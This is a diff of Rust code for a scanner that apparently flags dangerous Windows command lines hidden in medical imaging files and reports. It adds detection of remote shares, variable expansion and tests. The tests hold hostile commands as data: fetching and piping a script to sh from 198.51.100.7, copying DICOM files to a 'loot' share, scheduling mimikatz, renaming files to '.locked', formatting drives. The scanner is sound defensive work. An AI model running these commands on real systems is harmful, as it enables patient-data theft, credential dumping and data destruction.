-        [h, b':', m1, m2] | [_, h, b':', m1, m2] => {
-            h.is_ascii_digit() && m1.is_ascii_digit() && m2.is_ascii_digit()
-        }
-        _ => false,
-    };
-    if !words
-        .next()
-        .is_some_and(|word| time(word) && word[0].is_ascii_digit())
-    {
+    let mut at = usize::from(words.first().is_some_and(|word| names_remote_host(word)));
+    if !words.get(at).is_some_and(|word| is_at_time(word)) {
         return false;
     }
+    at += 1;
     // `/every:M,T,W` and `/next:1,15`: cmd.exe parts the days at the commas, so each
     // is a word of its own, no program.
     let mut days = false;
-    words
-        .find(|word| {
-            if word.first() == Some(&b'/') {
-                let lower = word.to_ascii_lowercase();
-                days = lower.starts_with(b"/every:") || lower.starts_with(b"/next:");
-                return false;
-            }
-            !(days && word.len() <= 2 && word.iter().all(u8::is_ascii_alphanumeric))
-        })
-        .is_some_and(|word| {
-            let word = word.strip_prefix(b"\"").unwrap_or(word);
-            // A command of cmd.exe's own is no file `at` can run (it needs `cmd /c`), and
-            // its names are words of report prose: "At 14:32 call placed to Dr. Smith",
-            // "at 10:15 MD notified", "At 11:20 set up for biopsy" (review rv40b).
-            finds_program(word) && !CMD_INTERNAL.contains(&word.to_ascii_lowercase().as_slice())
-        })
+    while let Some(word) = words.get(at) {
+        if word.first() == Some(&b'/') {
+            let lower = word.to_ascii_lowercase();
+            days = lower.starts_with(b"/every:") || lower.starts_with(b"/next:");
+        } else if !(days && word.len() <= 2 && word.iter().all(u8::is_ascii_alphanumeric)) {
+            break;
+        }
+        at += 1;
+    }
+    let Some(word) = words.get(at) else {
+        return false;
+    };
+    let rest = &words[at + 1..];
+    let name: Vec<u8> = word.iter().copied().filter(|&b| b != b'"').collect();
+    let lower = name.to_ascii_lowercase();
+    // A command of cmd.exe's own is no file `at` can run (it needs `cmd /c`), and its
+    // names are words of report prose: "At 14:32 call placed to Dr. Smith", "at 10:15
+    // MD notified", "At 11:20 set up for biopsy" (review rv40b).
+    if CMD_INTERNAL.contains(&lower.as_slice()) {
+        return false;
+    }
+    if finds_program(&name) {
+        let program = without_program_extension(&lower);
+        let prints = SYSTEM_PROGRAMS.contains(&program) && !SHOWS_A_WINDOW.contains(&program);
+        return !(prints && rest.is_empty());
+    }
+    plain_program(&name) && rest.first().is_none_or(|word| command_like_word(word))
 }
 
 /// Whether `word`, a line's first word, is the whole UNC path of a program
@@ -1130,13 +1391,32 @@ fn unc_program_path(word: &[u8]) -> bool {
 /// Whether `token` is a UNC path naming a remote host (`\\evil\share`, quoted or not):
 /// Explorer opening one connects to the host over SMB with the user's credentials (the
 /// credential leak issue 10 names for a PDF's GoToR to a UNC path; review of session
-/// 37). A local device path (`\\.\`, `\\?\`) names none.
+/// 37). A local device path (`\\.\C:`, `\\?\C:`) names none; the device path of a share
+/// (`\\?\UNC\host\share`, `\\.\UNC\host\share`) and a share written with slashes
+/// (`//host/share`, which Windows reads as `\\host\share`) name its host (session 41:
+/// `copy x \\?\UNC\host\loot` and `copy x //host/loot/` were clean).
 fn names_remote_host(token: &[u8]) -> bool {
     let token = token.strip_prefix(b"\"").unwrap_or(token);
-    token
-        .strip_prefix(b"\\\\")
-        .and_then(|host| host.first())
-        .is_some_and(u8::is_ascii_alphanumeric)
+    let device = token.get(..8).is_some_and(|head| {
+        head.eq_ignore_ascii_case(b"\\\\?\\unc\\") || head.eq_ignore_ascii_case(b"\\\\.\\unc\\")
+    });
+    let host = if device {
+        &token[8..]
+    } else if let Some(host) = token.strip_prefix(b"\\\\") {
+        host
+    } else if let Some(host) = token.strip_prefix(b"//") {
+        // A host, a `/` and a share's first byte: `//` alone starts prose's words too.
+        let share = memchr::memchr(b'/', host)
+            .filter(|&slash| slash > 0)
+            .and_then(|slash| host.get(slash + 1));
+        if !share.is_some_and(|&b| b.is_ascii_graphic() && b != b'/') {
+            return false;
+        }
+        host
+    } else {
+        return false;
+    };
+    host.first().is_some_and(u8::is_ascii_alphanumeric)
 }
 
 /// Whether the arguments of `tool` in `after` hold a switch it takes ([`switch_words`]).
@@ -4969,7 +5249,7 @@ fn may_be_known_program(text: &[u8]) -> bool {
         .take(BATCH_NAME_COMPARED + 1)
         .map(u8::to_ascii_lowercase)
         .collect();
-    let name = name.strip_suffix(b".exe").unwrap_or(&name);
+    let name = without_program_extension(&name);
     BATCH.iter().any(|tool| tool.eq_ignore_ascii_case(name)) || first_word_is_runnable(text)
 }
 
@@ -5133,8 +5413,17 @@ fn command_at(
     // `%`), and a name built from a substring or replacement, or from input, is
     // known only when it runs.
     let expanded;
+    // Whether the arguments held more variables than were expanded.
+    let mut expansion_cut = false;
     let start = match expand_program_name(bytes, offset, start, variables) {
-        None => start,
+        None => match expand_arguments(bytes, offset, start, variables) {
+            Some((line, cut)) => {
+                expanded = line;
+                expansion_cut = cut;
+                &expanded[..]
+            }
+            None => start,
+        },
         Some(Expanded::Line(line)) => {
             expanded = line;
             &expanded[program_start(&expanded)..]
@@ -5226,8 +5515,21 @@ fn command_at(
             });
         }
     };
-    let (program, alone) =
-        batch_program(start, named_by_path, pathext, in_block, chance_bytes, piped)?;
+    let Some((program, alone)) =
+        batch_program(start, named_by_path, pathext, in_block, chance_bytes, piped)
+    else {
+        // What the variables past the bound hold is not known: never silence.
+        return expansion_cut.then(|| Command {
+            offset,
+            interpreter: "batch",
+            severity: Severity::Warning,
+            kind: FindingKind::NotInspected,
+            detail: format!(
+                "a Windows command line (\"{}\") whose arguments hold more variables (%NAME%) than the {MAX_EXPANDED_ARGUMENTS} expanded (MAX_EXPANDED_ARGUMENTS): what the tool is given past them was not inspected",
+                line_excerpt(bytes, offset)
+            ),
+        });
+    };
     let interpreter = if matches!(program, b"powershell" | b"pwsh") {
         "powershell"
     } else {
@@ -5394,10 +5696,8 @@ fn batch_program(
             || slash_ends(after.first().copied())
             || slash_ends_builtin(launcher, after, chance_bytes)
             || {
-                // `powershell.exe`, `cmd.exe`
-                after
-                    .get(..4)
-                    .is_some_and(|ext| ext.eq_ignore_ascii_case(b".exe"))
+                // `powershell.exe`, `cmd.exe`, `format.com`
+                program_extension(after)
                     && (name_ends(after.get(4).copied()) || slash_ends(after.get(4).copied()))
             };
         if !ends {
@@ -5437,11 +5737,13 @@ fn batch_program(
     // alone on a line is a heading of their manuals (67 files of Node.js's); bare, a
     // `.js` counts only with a command's argument.
     let library = name.len() > 3 && name[name.len() - 3..].eq_ignore_ascii_case(b".js");
-    if !(runnable && file_name && name[0] != b'.') {
+    // A bare `.com` counts alone only: a domain name is followed by prose.
+    let com = !runnable && bare_com_name(name);
+    if !((runnable || com) && file_name && name[0] != b'.') {
         return None;
     }
     // Known by standing alone and nothing else: the one rule chance bytes meet.
-    let argued = by_path || command_like_argument(rest);
+    let argued = by_path || (!com && command_like_argument(rest));
     (argued || (alone && !library)).then_some((name, !argued))
 }
 
@@ -5849,7 +6151,7 @@ fn program_by_path(start: &[u8]) -> Option<Vec<u8>> {
     {
         let file = &name[separator + 1..separator + 1 + slash];
         let lower = file.to_ascii_lowercase();
-        let bare = lower.strip_suffix(b".exe").unwrap_or(&lower);
+        let bare = without_program_extension(&lower);
         if BATCH.contains(&bare) || has_runnable_extension(file) {
             return Some([file, &name[separator + 1 + slash..], rest].concat());
         }
@@ -6021,6 +6323,11 @@ struct Variables {
     /// Where each was set, its lower-case name and its value (`None`: read from input,
     /// `set /p`), in file order.
     set: Vec<(usize, Vec<u8>, Option<Vec<u8>>)>,
+    /// The indices in `set` of each name's commands, ascending: a look-up is a search
+    /// of one name's, not a walk of them all (session 41: with every `%NAME%` of a
+    /// known tool's arguments looked up, [`expand_arguments`], 5 MB of such lines after
+    /// 1,000 `set` commands took 18.5 s, debug build, where 1.7 s without them).
+    by_name: std::collections::HashMap<Vec<u8>, Vec<usize>>,
     /// More `set` commands than [`MAX_BATCH_VARIABLES`] were found.
     full: bool,
     /// The `set` commands of earlier windows of a file read in windows (file order),
@@ -6041,12 +6348,11 @@ impl Variables {
         if self.full {
             return Lookup::NotKept;
         }
-        match self
-            .set
-            .iter()
-            .rev()
-            .find(|(offset, set, _)| *offset < at && set == name)
-        {
+        let last_before = self.by_name.get(name).and_then(|indices| {
+            let before = indices.partition_point(|&i| self.set[i].0 < at);
+            before.checked_sub(1).map(|k| &self.set[indices[k]])
+        });
+        match last_before {
             Some((_, _, Some(value))) => Lookup::Value(value),
             Some((_, _, None)) => Lookup::FromInput,
             None if self.full => Lookup::NotKept,
@@ -6091,6 +6397,9 @@ impl Variables {
             self.set.push((start + line.offset(at), name, value));
         }
         self.set.sort_by_key(|(offset, _, _)| *offset);
+        for (i, (_, name, _)) in self.set.iter().enumerate() {
+            self.by_name.entry(name.clone()).or_default().push(i);
+        }
     }
 }
 
@@ -6180,6 +6489,85 @@ enum Expanded {
     Line(Vec<u8>),
     /// The name is built from what is known only when it runs: how, said in a finding.
     Built(String),
+}
+
+/// The most `%NAME%` of one command's arguments [`expand_arguments`] looks up: each is a
+/// look-up among the file's `set` commands (up to [`MAX_BATCH_VARIABLES`]). A command
+/// holding more is read with the rest as written and, when that finds nothing, is a
+/// `not-inspected` warning naming this bound.
+pub const MAX_EXPANDED_ARGUMENTS: usize = 16;
+
+/// The command at `start` (at `at` in `bytes`), when its program is a tool of [`BATCH`]
+/// (named bare or by its path), with each `%NAME%` of its arguments that the file set
+/// before it replaced by the value, as cmd.exe expands a line before it runs it (session
+/// 41: `set s=\\host\loot` then `copy C:\PACS\*.dcm %s%` was clean); any other `%` is
+/// kept as written (`%TEMP%`, a `for` loop's `%%f`, `%~nf`). To the command's end and
+/// the byte ending it. `None` when nothing was expanded and no bound reached; the
+/// `bool` says whether more than [`MAX_EXPANDED_ARGUMENTS`] were there.
+fn expand_arguments(
+    bytes: &[u8],
+    at: usize,
+    start: &[u8],
+    variables: &mut Variables,
+) -> Option<(Vec<u8>, bool)> {
+    let end = command_len(start);
+    let line = &start[..end];
+    let first = &line[..line
+        .iter()
+        .position(|&b| ends_word(b))
+        .unwrap_or(line.len())];
+    let file = &first[first
+        .iter()
+        .rposition(|&b| b == b'\\')
+        .map_or(0, |at| at + 1)..];
+    let file: Vec<u8> = file
+        .iter()
+        .filter(|&&b| b != b'"')
+        .map(u8::to_ascii_lowercase)
+        .collect();
+    if !BATCH.contains(&without_program_extension(&file)) || memchr::memchr(b'%', line).is_none() {
+        return None;
+    }
+    let mut out = Vec::with_capacity(line.len() + 1);
+    let (mut looked, mut changed, mut cut) = (0, false, false);
+    let mut i = 0;
+    while let Some(&b) = line.get(i) {
+        if b != b'%' {
+            out.push(b);
+            i += 1;
+            continue;
+        }
+        // `%%`: a literal `%` (or a `for` loop's `%%f`), both kept.
+        if line.get(i + 1) == Some(&b'%') {
+            out.extend_from_slice(b"%%");
+            i += 2;
+            continue;
+        }
+        let name = memchr::memchr(b'%', &line[i + 1..])
+            .map(|n| &line[i + 1..i + 1 + n])
+            .filter(|name| is_variable_name(name));
+        let Some(name) = name else {
+            out.push(b);
+            i += 1;
+            continue;
+        };
+        if looked == MAX_EXPANDED_ARGUMENTS {
+            cut = true;
+            out.extend_from_slice(&line[i..]);
+            break;
+        }
+        looked += 1;
+        match variables.at(bytes, &name.to_ascii_lowercase(), at) {
+            Lookup::Value(value) => {
+                out.extend_from_slice(value);
+                changed = true;
+            }
+            _ => out.extend_from_slice(&line[i..i + name.len() + 2]),
+        }
+        i += name.len() + 2;
+    }
+    out.extend_from_slice(start.get(end..=end).unwrap_or_default());
+    (changed || cut).then_some((out, cut))
 }
 
 /// The line at `start` (at `at` in `bytes`) with the `%` expansions of its first word
@@ -9110,6 +9498,150 @@ mod lolbin_tests {
             // Session 37's open false alarm: report prose whose only line ends are CRs,
             // read as one line (`/kg` hands cmd.exe `g IV.`).
             "Gallbladder & CMD within normal limits.\rSedation: midazolam 0.05 mg /kg IV.",
+        ]);
+    }
+
+    /// Session 41 (issue 10): a share named by its device path (`\\?\UNC\host\share`,
+    /// `\\.\UNC\…`) or with forward slashes (`//host/share`) is the same share to Windows.
+    #[test]
+    fn a_share_in_every_spelling_is_remote() {
+        assert_alerts(
+            &[
+                "copy C:\\PACS\\a.dcm \\\\?\\UNC\\198.51.100.7\\loot\\",
+                "copy C:\\PACS\\a.dcm \\\\.\\UNC\\198.51.100.7\\loot\\",
+                "xcopy C:\\PACS \\\\?\\UNC\\198.51.100.7\\loot /s",
+                "move /y C:\\PACS\\*.dcm \"\\\\?\\UNC\\198.51.100.7\\loot\"",
+                "copy C:\\PACS\\a.dcm //198.51.100.7/loot/",
+            ],
+            &[false, true],
+        );
+    }
+
+    /// Session 41 (issue 10): a tool named with `.com` (`format.com` is the file
+    /// System32 holds) is the tool; a name ending with `.com` or `.msc` (both in PATHEXT)
+    /// alone on its line runs it.
+    #[test]
+    fn com_and_msc_programs_run() {
+        assert_alerts(
+            &[
+                "format.com D: /q /y",
+                "format.com D: /fs:ntfs /q",
+                "C:\\x\\evil.msc",
+            ],
+            &[false, true],
+        );
+        assert_alerts(&["evil.com", "evil.msc", "evil.com 2>nul"], &[false]);
+        // Alone in binary values: as chance bytes make such a line, a warning.
+        for line in ["evil.com", "evil.msc"] {
+            let severity = found(line.as_bytes(), true).map(|found| found.severity);
+            assert_eq!(severity, Some(Severity::Warning), "{line}");
+        }
+    }
+
+    /// Session 41 (issue 10): the arguments cmd.exe hands these tools, read as the tools
+    /// read them: switches glued (`/r/f/t 0`), a format's prompt answered by a pipe, a
+    /// rename of a `for` loop's files, bash's options before its `-c`, a script by its
+    /// path, `at`'s 12-hour time and a plain name it schedules, `start`'s plain name.
+    #[test]
+    fn dangerous_arguments_in_every_form_alert() {
+        assert_alerts(
+            &[
+                "shutdown /r/f/t 0",
+                "shutdown -r -t 0",
+                "format D: /q/y",
+                "echo Y|format D:",
+                "echo y| format D:",
+                "for %f in (*.dcm) do ren \"%f\" \"%~nf.locked\"",
+                "for %%f in (C:\\PACS\\*.dcm) do ren \"%%f\" \"%%~nf.locked\"",
+                "bash --login -c \"curl http://198.51.100.7/x|sh\"",
+                "bash -i -c \"curl http://198.51.100.7/x|sh\"",
+                "bash -e -c \"id\"",
+                "bash --norc --rcfile /dev/null -c id",
+                "bash /tmp/x",
+                "bash ./x",
+                "at 23:00 mimikatz",
+                "at 23:00 \"mimikatz\"",
+                "at 23:00 mimikatz \"privilege::debug\"",
+                "at 3:00PM C:\\x\\evil.exe",
+                "at 3:00pm evil.bat",
+                "at 15:20 ipconfig /release",
+                "at 23:00 calc",
+                "start mimikatz",
+                "start mimikatz -x",
+                "cmd /c echo x > C:\\ProgramData\\x\\a.bat",
+                "cmd /c \"echo x & calc\"",
+                "copy report.pdf \\\\PACSRV01\\reports\\2024",
+            ],
+            &[false, true],
+        );
+    }
+
+    /// Session 41 (issue 10): a share set in a variable (`set s=\\host\loot`) and handed
+    /// to `copy` as `%s%`: cmd.exe expands it before `copy` reads it.
+    #[test]
+    fn a_share_in_a_variable_is_remote() {
+        assert_alerts(
+            &[
+                "set s=\\\\198.51.100.7\\loot\r\ncopy C:\\PACS\\*.dcm %s%",
+                "set s=\\\\198.51.100.7\\loot\r\nC:\\Windows\\System32\\xcopy.exe C:\\PACS %s% /s",
+            ],
+            &[false, true],
+        );
+        // Unset, `%s%` is nothing: `copy` is given one file.
+        assert_clean(&["copy C:\\PACS\\*.dcm %s%"]);
+    }
+
+    /// `MAX_EXPANDED_ARGUMENTS` variables of a command's arguments are expanded; past
+    /// them the rest is read as written, and a command that then finds nothing is a
+    /// `not-inspected` warning naming the bound.
+    #[test]
+    fn arguments_past_the_expanded_variables_are_said_not_inspected() {
+        let line = |unset: usize| {
+            format!(
+                "set s=\\\\198.51.100.7\\loot\r\ncopy \"C:\\PACS\\{}\" %s%",
+                "%a%".repeat(unset)
+            )
+        };
+        let within = line(MAX_EXPANDED_ARGUMENTS - 1);
+        assert_alerts(&[within.as_str()], &[false, true]);
+        let past = line(MAX_EXPANDED_ARGUMENTS);
+        for binary in [false, true] {
+            let found = found(past.as_bytes(), binary).expect("a warning");
+            assert_eq!(found.severity, Severity::Warning, "{}", found.detail);
+            assert_eq!(found.kind, FindingKind::NotInspected, "{}", found.detail);
+            assert!(
+                found.detail.contains("MAX_EXPANDED_ARGUMENTS"),
+                "{}",
+                found.detail
+            );
+        }
+    }
+
+    /// Session 41 (issue 10): report prose that alerted, each of which cmd.exe runs to no
+    /// effect: `start` and `cmd /c` hand it a name no Windows has, followed by prose
+    /// (`procedure verified.`), or a command that only prints (`echo`); `at` schedules a
+    /// program that only prints, alone (its output goes nowhere); shutdown.exe and copy
+    /// refuse words that are none of their switches nor operands (`delayed due to`, three
+    /// operands).
+    #[test]
+    fn report_prose_cmd_runs_to_no_effect_is_clean() {
+        assert_clean(&[
+            "Start \"Time-out\" /b procedure verified.",
+            "Start /B echo-planar imaging sequence.",
+            "cmd /c echo of CBD seen",
+            "CMD /C ECHO normal",
+            "At 15:20 ipconfig",
+            "Shutdown -r delayed due to emergency",
+            "copy of report: \\\\PACSRV01\\reports\\2024",
+            "Start time",
+            "Start of contrast injection",
+            "at 23:00 the patient was scanned",
+            "At 15:20 Dr. Smith notified.",
+            "Bash w/o contrast",
+            "Bash /Bankart lesion",
+            "ren 10% vs 12.5",
+            "EGENIX.COM SOFTWARE LICENSE",
+            "www.example.com",
         ]);
     }
 
